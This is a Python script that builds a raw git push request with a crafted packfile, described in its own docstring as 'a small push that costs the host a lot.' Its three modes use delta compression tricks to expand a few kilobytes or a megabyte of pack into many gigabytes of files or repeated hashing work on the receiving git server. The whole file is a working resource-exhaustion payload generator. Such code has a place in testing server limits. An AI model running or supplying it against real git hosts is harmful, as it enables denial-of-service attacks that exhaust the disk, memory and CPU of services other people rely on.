#!/usr/bin/env python3
"""Prints what a client sends to git-receive-pack: a small push that costs the host a lot: packs.py ATTACK
COUNT. Whatever becomes of it, it stays within what COUNT asks for. See gitformat-pack(5)."""

import hashlib
import random
import struct
import sys
import zlib

COMMIT, TREE, BLOB, OFS_DELTA, REF_DELTA = 1, 2, 3, 6, 7
MIB = 1 << 20
EMPTY_TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"


def one_large_file(times):
    """A few kilobytes of pack, which are a file of `times` 8 MiB while git unpacks it."""
    piece = bytes(8 * MIB)
    delta = number(len(piece)) + number(len(piece) * times) + copy(8 * MIB) * times
    tree = b"100644 large\0" + name(b"blob", [piece] * times)
    objects = [
        entry(BLOB, piece),
        entry(REF_DELTA, delta, name(b"blob", [piece])),
        entry(TREE, tree),
    ]
    return objects, name(b"tree", [tree]).hex()


def many_files(count):
    """A megabyte of pack, which is `count` files of 4 MiB that do not compress. Below
    receive.unpackLimit, which is 100 by default, each would get a file of its own."""
    piece = random.Random(1).randbytes(MIB)
    start = number(len(piece)) + number(4 * len(piece) + 4) + copy(MIB) * 4
    base = name(b"blob", [piece])
    deltas = [entry(REF_DELTA, start + insert(index), base) for index in range(count)]
    return [entry(BLOB, piece), *deltas], EMPTY_TREE


def nested_deltas(count):
    """A few kilobytes, of which git makes `count` files of 8 MiB one from another, to hash each."""
    size = 8 * MIB
    objects = [entry(BLOB, bytes(size))]
    for index in range(count):
        delta = number(size) + number(8 * MIB + 4) + copy(8 * MIB) + insert(index)
        objects.append(entry(OFS_DELTA, delta, distance(len(objects[-1]))))
        size = 8 * MIB + 4
    return objects, EMPTY_TREE


def number(value):
    """Seven bits a byte, the lowest first."""
    return (bytes([value & 127 | 128]) + number(value >> 7)) if value > 127 else bytes([value])


def distance(value):
    """How far the base is behind us: seven bits a byte, the highest first."""
    digits = bytes([value & 127])
    while value := value >> 7:
        value -= 1
        digits = bytes([value & 127 | 128]) + digits
    return digits


def copy(size):
    """From the beginning of the base; the size is a multiple of 64 KiB."""
    return bytes([0xC0, size >> 16])


def insert(value):
    return bytes([4]) + struct.pack(">I", value)


def entry(kind, content, base=b""):
    size = len(content)
    first = kind << 4 | size & 15
    head = (bytes([first | 128]) + number(size >> 4)) if size > 15 else bytes([first])
    return head + base + zlib.compress(content)


def name(kind, pieces):
    sha = hashlib.sha1(b"%s %d\0" % (kind, sum(map(len, pieces))))
    for piece in pieces:
        sha.update(piece)
    return sha.digest()


def main():
    objects, tree = globals()[sys.argv[1]](int(sys.argv[2]))
    commit = b"tree %s\nauthor e <e@x> 1 +0000\ncommitter e <e@x> 1 +0000\n\nx\n" % tree.encode()
    objects.append(entry(COMMIT, commit))
    if tree == EMPTY_TREE:
        objects.append(entry(TREE, b""))
    pack = struct.pack(">4sII", b"PACK", 2, len(objects)) + b"".join(objects)
    sha = name(b"commit", [commit]).hex()
    line = f"{'0' * 40} {sha} refs/tags/large\0report-status\n".encode()
    request = b"%04x%s0000" % (len(line) + 4, line)
    sys.stdout.buffer.write(request + pack + hashlib.sha1(pack).digest())


main()
